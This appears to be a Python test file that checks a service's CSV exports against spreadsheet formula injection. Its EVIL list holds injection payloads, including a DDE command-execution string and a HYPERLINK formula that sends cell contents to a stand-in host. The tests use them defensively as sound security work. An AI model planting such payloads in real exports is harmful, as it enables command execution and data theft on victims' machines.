"""Nothing that somebody typed runs in the spreadsheet in which somebody else opens a file of ours; figures stay figures.

Source: OWASP, "CSV Injection". What counts as a formula there: a cell that begins with = + - @, tab or line end.
"""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from service.api.answering import csv_response, harmless
from service.transfer.cells import guarded, unguarded
from service.transfer.columns import from_cell, to_cell
from service.transfer.history_mapping import OldFile
from service.transfer.old_records import Unread
from service.transfer.row_report import write_fates, write_refused
from service.transfer.shelf import RowFate, shelf
from tests.api.bodies import BAY, PART, added

EVIL = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.invalid/?"&A1,"look")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '";=1+1',
)
BEGINS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
FIGURE = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?\Z")


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula; a figure with its sign is none."""
    return BEGINS.match(cell) is not None and FIGURE.match(cell) is None


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("evil", EVIL)
def test_no_text_of_the_shop_runs_in_any_list(shop, evil):
    texts = {"name": f"{evil} name", "fitting_notes": f"{evil} notes"}
    added(shop, "/v1/parts", PART, slug="evil-part", **texts)
    added(shop, "/v1/bays", BAY, slug="evil-bay", name=f"{evil} name", site=evil, rollers=evil)
    added(
        shop,
        "/v1/bays/evil-bay/events",
        {"at": "2026-03-18T16:20:00+00:00", "kind": "repaired", "note": evil},
    )
    fitted = {"part": "evil-part", "fitted_on": "2026-03-18", "notes": evil}
    added(shop, "/v1/vehicles/car-a/modifications", fitted)
    etag = shop.get("/v1/bays/evil-bay").headers["ETag"]
    assert shop.patch("/v1/bays/evil-bay", {"name": evil + " again"}, If_Match=etag).status_code == 200
    lists = (
        "/v1/parts",
        "/v1/bays",
        "/v1/bays/evil-bay/events",
        "/v1/vehicles/car-a/modifications",
        "/v1/history",
    )
    for path in lists:
        answer = shop.get(path, Accept="text/csv")
        assert answer.content_type.startswith("text/csv"), path
        cells = [cell for row in cells_of(answer.get_data(as_text=True)) for cell in row]
        assert any(evil in cell for cell in cells) or path == "/v1/history", path
        assert [cell for cell in cells if runs(cell)] == [], path


def test_figures_below_nought_stay_figures(app):
    with app.test_request_context():
        text = csv_response(["a"], [[-3.2], [-0.5e-12], [-7], ["-3.2 then text"]]).get_data(as_text=True)
    assert cells_of(text) == [["a"], ["-3.2"], ["-5e-13"], ["-7"], ["'-3.2 then text"]]
    assert (to_cell("float", -3.2), to_cell("int", -7)) == ("-3.2", "-7")


@given(st.text() | st.sampled_from(EVIL))
@example("'=1")
@example("")
def test_an_exported_text_never_runs_and_reads_back_as_it_was(text):
    for kind in ("text", "json"):
        cell = to_cell(kind, text)
        assert BEGINS.match(cell) is None
        assert from_cell(kind, cell) == text
    assert unguarded(guarded(text)) == text


@given(st.text())
def test_no_text_runs_in_an_answer(text):
    assert BEGINS.match(harmless(text)) is None


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_figure_is_never_touched(figure):
    assert harmless(figure) is figure


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_of_an_old_file_runs_in_the_report_on_it(tmp_path, evil):
    with shelf() as rows:
        rows.refuse(Unread(line=2, faults=[evil], day=evil, bay=evil, vehicle=evil), [evil, "x", evil])
        rows.decide(RowFate(line=2, fate="refused", words=evil, notes=evil, session=evil))
        write_fates(tmp_path / "fates.csv", rows)
        write_refused(tmp_path / "refused.csv", rows, [], OldFile())
    for name in ("fates.csv", "refused.csv"):
        cells = [cell for row in cells_of((tmp_path / name).read_bytes().decode()) for cell in row]
        assert any(evil in cell for cell in cells), name
        assert [cell for cell in cells if runs(cell)] == [], name


def test_no_other_place_writes_delimited_text():
    """Whoever adds one guards it and adds it here."""
    from pathlib import Path

    import service

    root = Path(service.__file__).parent
    found = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)", path.read_text())
    }
    assert found == {"api/answering.py", "transfer/export.py", "transfer/row_report.py"}
